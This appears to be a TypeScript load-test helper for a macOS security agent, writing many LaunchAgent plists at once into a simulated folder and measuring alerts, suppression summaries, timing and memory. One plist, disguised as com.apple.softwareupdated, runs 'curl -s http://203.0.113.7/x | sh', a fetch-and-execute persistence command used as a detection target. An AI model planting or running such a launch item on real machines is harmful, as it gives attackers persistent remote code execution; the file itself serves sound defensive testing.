import { mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { type AgentProcess, allAlerts, launchAgentPlist, type SimulatedMac, waitFor } from './mac.js';

/** What became of many launch items that were written at once, one of them severe. */
export interface DropReport {
  readonly lists: number;
  /** Lists of which there is an event. */
  readonly seen: number;
  /** Lists that have an alert of their own, or are counted by the summary of those that were held back. */
  readonly told: number;
  /** Alerts of its own that the severe one has, of a priority above low. */
  readonly severe: number;
  /** From its write to the commit of its first alert, milliseconds; undefined when it has none. */
  readonly severeMs: number | undefined;
  /** From the first write to the last, and until the agent had judged everything, milliseconds. */
  readonly writtenMs: number;
  readonly judgedMs: number;
  /** The most memory that the agent ever held, bytes; undefined on a system without /proc. */
  readonly peakBytes: number | undefined;
}

const folder = '/Users/alice/Library/LaunchAgents';
const rule = 'Launch item created or changed';

/** Writes so many lists into one folder without a pause; the severe one is in the middle of them. */
export async function dropLists(agent: AgentProcess, lists: number, settleMs: number): Promise<DropReport> {
  const { mac } = agent;
  mkdirSync(mac.host(folder), { recursive: true });
  const begun = performance.now();
  const severe = `${folder}/com.apple.softwareupdated.plist`;
  let severeAt = 0;
  for (let index = 0; index < lists - 1; index++) {
    if (index === Math.floor(lists / 2)) {
      severeAt = Date.now();
      mac.write(
        severe,
        launchAgentPlist('com.apple.softwareupdated', ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x | sh']),
      );
    }
    mac.write(`${folder}/net.example.drop-${index}.plist`, launchAgentPlist(`net.example.drop-${index}`));
  }
  const writtenMs = performance.now() - begun;
  const own = await waitFor('the alert of the severe one', () => alertOf(mac, severe), settleMs).catch(
    () => undefined,
  );
  await waitFor(
    'the agent to see every list',
    () => (seenOf(mac) >= lists ? true : undefined),
    settleMs,
  ).catch(() => undefined);
  await settledWithin(agent, settleMs);
  const judgedMs = performance.now() - begun;
  const seen = seenOf(mac);
  const peakBytes = peakOf(agent);
  // The summary is brought up to date when its interval ends, and when the agent does.
  await agent.stop();
  return {
    lists,
    seen,
    told: toldOf(mac),
    severe: own?.count ?? 0,
    severeMs: own === undefined ? undefined : own.created - severeAt,
    writtenMs,
    judgedMs,
    peakBytes,
  };
}

function read<T>(mac: SimulatedMac, name: string, sql: string, ...values: string[]): T[] {
  const db = new Database(path.join(mac.dataDir, name), { readonly: true });
  try {
    return db.prepare(sql).all(...values) as T[];
  } finally {
    db.close();
  }
}

function alertOf(mac: SimulatedMac, macPath: string): { count: number; created: number } | undefined {
  const found = read<{ created: number }>(
    mac,
    'launchwarden.db',
    `SELECT a.created FROM alerts a JOIN documents d ON d.seq = a.doc
      WHERE json_extract(d.body, '$.file.path') = ? AND a.priority >= 40 ORDER BY a.created`,
    macPath,
  );
  const [first] = found;
  return first === undefined ? undefined : { count: found.length, created: first.created / 1000 };
}

function seenOf(mac: SimulatedMac): number {
  const [row] = read<{ seen: number }>(
    mac,
    'events.db',
    `SELECT count(DISTINCT json_extract(body, '$.file.path')) AS seen FROM events
      WHERE json_extract(body, '$.file.path') LIKE '${folder}/%'`,
  );
  return row?.seen ?? 0;
}

async function settledWithin(agent: AgentProcess, milliseconds: number): Promise<void> {
  const now = Date.now() * 1000;
  await waitFor(
    'the agent to judge everything',
    async () => ((await agent.status()).complete_through > now ? true : undefined),
    milliseconds,
  );
}

function peakOf({ child }: AgentProcess): number | undefined {
  try {
    const kib = /^VmHWM:\s*(\d+)/m.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1];
    return kib === undefined ? undefined : Number(kib) * 1024;
  } catch {
    return undefined;
  }
}

/** Lists that an alert of the rule for every launch item is about, and those that its summaries count. */
function toldOf(mac: SimulatedMac): number {
  let told = 0;
  const own = new Set<string>();
  for (const { rule_name, doc } of allAlerts(mac)) {
    if (rule_name !== rule) continue;
    const fields = (doc['launchwarden'] as { alert?: { kind?: string; suppressed?: number } }).alert;
    if (fields?.kind === 'match' && doc.file?.path !== undefined) own.add(doc.file.path);
    else told += fields?.suppressed ?? 0;
  }
  return told + own.size;
}
